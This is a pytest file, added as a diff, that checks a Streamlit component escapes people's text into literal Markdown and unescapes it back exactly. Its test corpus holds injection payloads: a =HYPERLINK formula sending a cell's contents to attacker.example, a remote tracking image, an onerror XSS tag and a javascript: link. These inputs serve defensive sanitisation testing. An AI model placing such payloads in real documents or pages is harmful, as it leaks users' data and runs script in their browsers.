@@ -1,0 +1,115 @@
+"""components.text: people's text becomes Markdown that Streamlit shows literally, and reads back exactly."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from components.text import JOINER, clip, code, literal, plain, task_href, unescape
+
+LONG_WORD = "W" * 10_000
+
+# The hostile corpus of issue 18 (also fed through every page by tests/app and tests/e2e test_hostile_text.py).
+CORPUS = [
+    "x ![t](http://attacker.example/p.png)",
+    '=HYPERLINK("http://attacker.example/?"&A1,"details")',
+    "<img src=x onerror=alert(1)>",
+    r"$\frac{a}{b}$",
+    ":red[x]",
+    ":material/home:",
+    "[a](javascript:alert(1))",
+    "# heading",
+    LONG_WORD,
+]
+
+J = JOINER
+# Exactly what each entry becomes: Markdown specials escaped, a joiner where a pattern is found after parsing.
+EXPECTED = {
+    "x ![t](http://attacker.example/p.png)": rf"x !\[t\](http\:{J}//attacker.example/p.png)",
+    '=HYPERLINK("http://attacker.example/?"&A1,"details")':
+        rf'\=HYPERLINK("http\:{J}//attacker.example/?"&A1,"details")',
+    "<img src=x onerror=alert(1)>": r"\<img src=x onerror=alert(1)>",
+    r"$\frac{a}{b}$": r"\$\\frac{a}{b}\$",
+    "$$x^2$$": r"\$\$x^2\$\$",
+    ":red[x]": rf"\:{J}red\[x\]",
+    ":red-background[x] :rainbow[y]": rf"\:{J}red-background\[x\] \:{J}rainbow\[y\]",
+    ":material/home:": rf"\:{J}material/home:",
+    "[a](javascript:alert(1))": rf"\[a\](javascript\:{J}alert(1))",
+    "# heading": r"\# heading",
+    "## heading": r"\## heading",
+    ":smile: :streamlit: :+1: :100:": rf"\:{J}smile: \:{J}streamlit: \:{J}+1: \:{J}100:",
+    "www.attacker.example mail@attacker.example": f"www{J}.attacker.example mail@{J}attacker.example",
+    "<http://attacker.example>": rf"\<http\:{J}//attacker.example>",
+    "- item\n1. one\n> quote\n---": "\\- item\\\n1\\. one\\\n\\> quote\\\n\\---",
+    "+ a\n2) b\n===": "\\+ a\\\n2\\) b\\\n\\===",
+    "    indented code": "&#32;&#32;&#32;&#32;indented code",
+    "`code` ~~s~~ **b** _i_": r"\`code\` \~\~s\~\~ \*\*b\*\* \_i\_",
+    "<b>&amp;</b> &#36; Q&A": r"\<b>\&amp;\</b> \&#36; Q&A",
+    "| a | b |\n|---|---|": "\\| a \\| b \\|\\\n\\|---\\|---\\|",
+    "a\\\nb": "a\\\\\\\nb",
+    "[^1]: note": r"\[^1\]: note",
+    # Ordinary sentences stay as typed: ", . ! ( ) ?" and ": " start nothing.
+    "A fox, in the snow (at dusk)! Really? Yes: 3:2.": "A fox, in the snow (at dusk)! Really? Yes: 3:2.",
+    "Write a prompt first: an empty prompt cannot be saved.":
+        "Write a prompt first: an empty prompt cannot be saved.",
+    LONG_WORD: LONG_WORD,
+}
+
+
+@pytest.mark.parametrize("text", CORPUS + list(EXPECTED))
+def test_every_entry_is_escaped_exactly_and_reads_back(text):
+    escaped = literal(text)
+    assert escaped == EXPECTED.get(text, escaped)
+    assert text in EXPECTED  # the whole corpus has its exact expected form
+    assert unescape(escaped) == text
+
+
+@pytest.mark.parametrize("text", list(EXPECTED))
+def test_nothing_is_left_for_markdown_to_obey(text):
+    """No construct survives: every '[', '$', '<', '`', '*', '_', '~', '|' is escaped, and every ':name' is broken."""
+    escaped = literal(text)
+    unescaped_specials = re.findall(r"(?<!\\)(?:\\\\)*([\[\]$<`*_~|])", escaped)
+    assert unescaped_specials == []
+    assert not re.search(r"(?<!\\):[A-Za-z_/+-]", escaped)  # no directive, icon, shortcode or URL scheme
+    assert "](" not in escaped.replace(r"\](", "")
+    assert ":material/" not in escaped  # Streamlit rewrites that text before it parses anything
+    assert not re.search(r"(?m)^(?:[ \t]{0,3})(?:[#>+=-]|\d+[.)])", escaped)  # no block starts a line
+
+
+def test_one_line_keeps_the_text_on_one_line():
+    assert literal("# a\n- b", one_line=True) == r"\# a \- b"
+    assert "\n" not in literal("a\nb\r\nc\rd", one_line=True)
+
+
+def test_line_breaks_become_hard_breaks_and_trailing_ones_go():
+    assert literal("a\r\nb\rc\n") == "a\\\nb\\\nc"
+
+
+def test_a_persons_own_escapes_and_references_read_back():
+    for text in [f"{JOINER} &#32; \\\\ \\:", "\\", "a\\", "&#8288;x", "  two\n\tthree", "\\\n"]:
+        assert unescape(literal(text)) == text.rstrip("\n")
+
+
+def test_clip_cuts_before_escaping():
+    assert clip("abcdef", 4) == "abc…"
+    assert literal("****", 3) == r"\*\*…"
+    assert clip(None) == "" and literal(None) == ""
+
+
+def test_code_picks_a_fence_longer_than_any_backtick_run():
+    assert code("task_4o_abc") == "`task_4o_abc`"
+    assert code("a`b") == "``a`b``"
+    assert code("`x`") == "`` `x` ``"
+    # A code span cannot carry these: the text is escaped instead.
+    assert code(":material/home:") == literal(":material/home:")
+    assert code("a\nb") == "a b"
+
+
+def test_plain_is_one_line_and_unescaped():
+    assert plain("**a**\n$b$", 20) == "**a** $b$"
+
+
+def test_task_href_keeps_the_id_inside_the_link():
+    assert task_href("a) [x](http://attacker.example/") == (
+        "/history?task=a%29%20%5Bx%5D%28http%3A%2F%2Fattacker.example%2F")
